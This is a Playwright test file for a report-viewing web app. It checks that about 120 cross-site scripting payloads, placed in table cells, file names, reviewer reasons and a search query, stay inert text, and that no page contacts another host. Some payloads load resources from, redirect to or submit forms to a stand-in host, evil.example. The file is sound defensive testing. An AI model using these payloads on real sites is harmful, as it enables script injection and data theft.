"""Hostile cells, names and reasons in Chromium stay text, and no other host is asked."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.audit_browser import CHROMIUM, Visit, browsing, serving, wait_for
from tests.audit_site import ODD, OFFICIAL, cases, convert_again, converted, report_ids

WEIGHT = "indicator:1.1.1/weight"

pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not on this machine"),
    pytest.mark.timeout(240),
]
pytest.importorskip("playwright.sync_api", reason="playwright is not installed")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with browsing() as opened:
        yield opened


MARK = "window.executed=1"
PAYLOADS = [
    before + body
    for before in ("", '">', "'>", "</script>", "</textarea>", "]]>")
    for body in (
        f"<script>{MARK}</script>", f"<img src=x onerror={MARK}>", f"<svg onload={MARK}>",
        f"<iframe src=javascript:{MARK}>", f"<a href=javascript:{MARK}>x</a>",
        f"<body onload={MARK}>", f"<input autofocus onfocus={MARK}>",
        f"<details open ontoggle={MARK}>",
        f"<math><mtext><img src=x onerror={MARK}>", f"{{{{constructor.constructor('{MARK}')()}}}}",
        f"<style>@import 'http://evil.example/x'</style><img src=http://evil.example/{MARK}>",
        f"javascript:{MARK}", f"<object data=javascript:{MARK}>",
        "<form action=http://evil.example><button autofocus>",
        "<base href=http://evil.example/>", "<meta http-equiv=refresh content=0;url=http://evil.example>",
        "<link rel=stylesheet href=http://evil.example/x.css>", f"<video><source onerror={MARK}>",
        f"\" onmouseover={MARK} x=\"", f"' onfocus={MARK} autofocus='",
    )
]  # fmt: skip


def nothing_was_made_of_it(page: Any) -> None:
    assert page.evaluate("window.executed") is None
    made = page.evaluate(
        "document.querySelectorAll('iframe,object,math,base,video,style,"
        "meta[http-equiv],[onerror],[onload],[onfocus],[onmouseover]').length"
    )
    assert made == 0
    assert page.evaluate("[...document.scripts].every(s => s.src.includes('/static/'))")


def test_no_cell_name_or_reason_becomes_anything_but_text(browser: Any, tmp_path: Path) -> None:
    assert len(PAYLOADS) == 120
    out = converted(tmp_path, ODD)
    source = tmp_path / "in" / f"{ODD}.tsv"
    lines = source.read_text("utf-8").split("\n")
    rows = [n for n, line in enumerate(lines) if re.search(r"\[[১-৯]\.[১-৯]\.[১-৯]\]", line)]
    per_row = -(-len(PAYLOADS) // len(rows))
    for place, n in enumerate(rows):
        lines[n] += " " + " ".join(PAYLOADS[place * per_row : (place + 1) * per_row])
    name = "a\"'><img src=x onerror=window.executed=1>.tsv"
    (tmp_path / "in" / name).write_text("\n".join(lines), encoding="utf-8")
    source.unlink()
    convert_again(out)
    (report_id,) = [one for file, one in report_ids(out).items() if "onerror" in file]
    with serving(out) as served:
        visit = Visit(browser, served)
        page = visit.page
        visit.open(f"/report/{report_id}#{WEIGHT}")
        page.fill("#by", PAYLOADS[1])
        page.locator("#by").dispatch_event("change")
        visit.press("Tab")
        page.locator("#items").focus()
        visit.press("c")
        page.fill("#why", PAYLOADS[21])
        page.locator("#why").press("Enter")
        wait_for(lambda: page.locator("#said").inner_text().startswith("Saved"))
        for path in (
            f"/report/{report_id}",
            "/",
            "/values",
            "/findings",
            "/overview",
            f"/?q={PAYLOADS[20]}",
        ):
            visit.open(path)
            for language in ("bn", "en"):
                visit.open(f"{path.partition('?')[0]}?lang={language}")
            nothing_was_made_of_it(page)
        dossier = tmp_path / "dossier.html"
        answer = visit.context.request.get(f"{visit.home}/report/{report_id}/dossier")
        dossier.write_bytes(answer.body())
        visit.close()
    context = browser.new_context()
    opened = context.new_page()
    asked: list[str] = []

    def note(request: Any) -> None:
        asked.append(request.url)

    opened.on("request", note)
    opened.goto(dossier.as_uri())
    assert opened.evaluate("window.executed") is None
    assert [url for url in asked if not url.startswith(("file:", "data:"))] == []
    assert PAYLOADS[0] in opened.locator("body").inner_text()
    context.close()


def named(payload: str) -> str:
    """A file name with all of a payload but what no file system takes."""
    return payload.replace("/", "⁄")


def test_no_name_of_a_file_becomes_anything_but_text(browser: Any, tmp_path: Path) -> None:
    out = converted(tmp_path, ODD)
    source = (tmp_path / "in" / f"{ODD}.tsv").read_text("utf-8")
    for n, payload in enumerate(PAYLOADS):
        (tmp_path / "in" / f"{named(payload)}.tsv").write_text(f"{source}\n{n}\n", "utf-8")
        (tmp_path / "in" / f"{named(payload)}.png").write_bytes(b"")
    convert_again(out)
    with serving(out) as served:
        visit = Visit(browser, served)
        seen = ""
        for path in ("/", "/?start=50", "/?start=100", "/overview"):
            visit.open(path)
            nothing_was_made_of_it(visit.page)
            seen += visit.page.locator("main").inner_text()
        assert all(f"{named(payload)}.tsv" in seen for payload in PAYLOADS)
        assert all(f"{named(payload)}.png" in seen for payload in PAYLOADS)
        visit.close()


DECIDE = """async ([report, key, payload]) => {
  const cell = await fetch(`/report/${report}/cell?key=${encodeURIComponent(key)}`);
  await cell.text();
  const answer = await fetch(`/report/${report}/decide`, {
    method: "POST",
    headers: { "content-type": "application/json", "if-match": cell.headers.get("etag") },
    body: JSON.stringify({ key, kind: "correct", text: payload, why: payload, by: payload }),
  });
  return answer.status;
}"""


def test_no_reviewer_reason_or_text_becomes_anything_but_text(browser: Any, tmp_path: Path) -> None:
    out = converted(tmp_path, ODD)
    report_id = report_ids(out)[ODD]
    with serving(out) as served:
        visit = Visit(browser, served)
        page = visit.page
        visit.open(f"/report/{report_id}")
        fields = page.locator('.cell[data-key$="/remark"], .cell[data-key$="/text"]')
        keys = [one.get_attribute("data-key") for one in fields.all()]
        for first in range(0, len(PAYLOADS), len(keys)):
            for key, payload in zip(keys, PAYLOADS[first : first + len(keys)], strict=False):
                assert page.evaluate(DECIDE, [report_id, key, payload]) == 200, payload
            open_item = page.locator('.item:not(.done)[data-key$="/remark"]').first
            if open_item.count():  # its version is an old one: both decisions are told
                open_item.locator("button").focus()
                visit.press("Enter", "a")
                wait_for(lambda: "Theirs" in page.locator("#said").inner_text())
                nothing_was_made_of_it(page)
            visit.open(f"/report/{report_id}")
            nothing_was_made_of_it(page)
            decided = page.locator(".cell .verdict bdi").all_inner_texts()
            assert set(PAYLOADS[first : first + len(keys)]) <= set(decided)
        answer = visit.context.request.get(f"{visit.home}/report/{report_id}/dossier")
        dossier = tmp_path / "dossier.html"
        dossier.write_bytes(answer.body())
        visit.close()
    context = browser.new_context()
    opened = context.new_page()
    opened.goto(dossier.as_uri())
    assert opened.evaluate("window.executed") is None
    text = opened.locator("body").inner_text()
    assert all(text.count(payload) >= 3 for payload in PAYLOADS)
    context.close()


# ---- no other host

OF_A_KIND = cases(4, 1)
"""Pages whose addresses differ in the values of a filter only."""


def test_a_crawl_of_all_pages_asks_no_other_host(browser: Any, tmp_path: Path) -> None:
    out = converted(tmp_path, ODD, OFFICIAL)
    with serving(out) as served:
        visit = Visit(browser, served)  # every request to another host is a trouble of the visit
        waiting, seen = ["/", "/?lang=en"], set[str]()
        while waiting:
            path = waiting.pop()
            seen.add(path)
            visit.open(path)
            links = visit.page.locator("a[href]:not([download])").evaluate_all(
                "links => links.map(link => link.href)"
            )
            assert all(link.startswith(visit.home) for link in links)
            inner = {link.removeprefix(visit.home).partition("#")[0] for link in links}
            fresh = sorted(inner - seen - set(waiting))
            kinds = [re.sub(r"=[^&]*", "", one) for one in (*seen, *waiting)]
            for one in fresh:
                if kinds.count(re.sub(r"=[^&]*", "", one)) < OF_A_KIND:
                    waiting.append(one)
                    kinds.append(re.sub(r"=[^&]*", "", one))
        assert {"/", "/values", "/overview"} <= seen
        assert sum(path.startswith("/report/") for path in seen) > 1
        visit.close()
